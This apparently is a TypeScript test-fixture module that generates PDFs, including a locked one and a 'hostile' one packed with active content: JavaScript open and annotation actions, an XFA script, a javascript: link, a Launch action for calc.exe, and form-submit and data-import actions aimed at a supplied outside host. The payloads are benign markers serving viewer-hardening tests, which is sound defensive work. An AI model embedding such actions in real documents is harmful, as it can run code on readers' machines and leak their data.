/** The numbers of the objects that every file here begins with; what is added to it counts on from `firstAdded`. */
const [catalog, tree, font, firstPage] = [1, 2, 3, 4];

interface PdfParts {
  /** What the pages say, one line each. */
  readonly pages: readonly string[];
  /** Entries of the catalog beside the pages. */
  readonly catalog?: string;
  /** Entries of each page. */
  readonly page?: string;
  /** Entries of the trailer. */
  readonly trailer?: string;
}

const pageObjects = (text: string, index: number, more: string): [number, string][] => {
  const [page, content] = [firstPage + 2 * index, firstPage + 2 * index + 1];
  const drawn = `BT /F1 36 Tf 72 700 Td (${text}) Tj ET`;
  return [
    [
      page,
      `<< /Type /Page /Parent ${tree} 0 R /MediaBox [0 0 612 792] /Contents ${content} 0 R /Resources << /Font << /F1 ${font} 0 R >> >> ${more} >>`,
    ],
    [content, `<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`],
  ];
};

/** A PDF, as bytes. */
export const pdfOf = ({ pages, page = '', ...more }: PdfParts): Buffer => {
  const kids = pages.map((_, index) => `${firstPage + 2 * index} 0 R`).join(' ');
  const objects: [number, string][] = [
    [catalog, `<< /Type /Catalog /Pages ${tree} 0 R ${more.catalog ?? ''} >>`],
    [tree, `<< /Type /Pages /Kids [${kids}] /Count ${pages.length} >>`],
    [font, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'],
    ...pages.flatMap((text, index) => pageObjects(text, index, page)),
  ];
  let file = '%PDF-1.7\n';
  const places = objects.map(([number, body]) => {
    const place = file.length;
    file += `${number} 0 obj\n${body}\nendobj\n`;
    return `${String(place).padStart(10, '0')} 00000 n \n`;
  });
  const size = objects.length + 1;
  const table = `xref\n0 ${size}\n0000000000 65535 f \n${places.join('')}`;
  const trailer = `trailer\n<< /Size ${size} /Root ${catalog} 0 R ${more.trailer ?? ''} >>\nstartxref\n${file.length}\n%%EOF\n`;
  return Buffer.from(file + table + trailer, 'latin1');
};

/** A PDF that asks for a password. */
export const lockedPdf = (): Buffer => {
  const hash = '41'.repeat(32);
  const id = '42'.repeat(16);
  return pdfOf({
    pages: ['Locked'],
    trailer: `/Encrypt << /Filter /Standard /V 1 /R 2 /O <${hash}> /U <${hash}> /P -44 >> /ID [<${id}> <${id}>]`,
  });
};

/** A PDF that tries to run scripts and programs, to lead away, to send a form, and to draw what lies elsewhere. */
export const hostilePdf = (away: string): Buffer => {
  const script = '<< /S /JavaScript /JS (top.hacked = 1; app.alert\\(1\\); this.submitForm\\("x"\\)) >>';
  const cover = (action: string): string =>
    `<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A ${action} /AA << /E ${script} /PO ${script} >> >>`;
  const actions = [
    `<< /S /URI /URI (${away}/pdf-link) >>`,
    '<< /S /URI /URI (javascript:top.hacked=1) >>',
    '<< /S /Launch /F (calc.exe) >>',
    `<< /S /GoToR /F << /FS /URL /F (${away}/other.pdf) >> /D [0 /Fit] >>`,
    `<< /S /SubmitForm /F << /FS /URL /F (${away}/pdf-form) >> >>`,
    `<< /S /ImportData /F << /FS /URL /F (${away}/pdf-data) >> >>`,
    script,
  ];
  const button = `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 612 792] /A ${script} >>`;
  const xfa = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script>top.hacked=1</script></event></subform></template></xdp:xdp>`;
  return pdfOf({
    pages: ['Addendum', 'Sheets'],
    catalog: [
      `/OpenAction ${script}`,
      `/AA << /WC ${script} /DP ${script} >>`,
      `/Names << /JavaScript << /Names [(x) ${script}] >> >>`,
      `/URI << /Base (${away}/) >>`,
      `/AcroForm << /Fields [${button}] /NeedAppearances true /XFA (${xfa}) >>`,
    ].join(' '),
    page: `/AA << /O ${script} /C ${script} >> /Annots [${[...actions.map(cover), button].join(' ')}]`,
  });
};
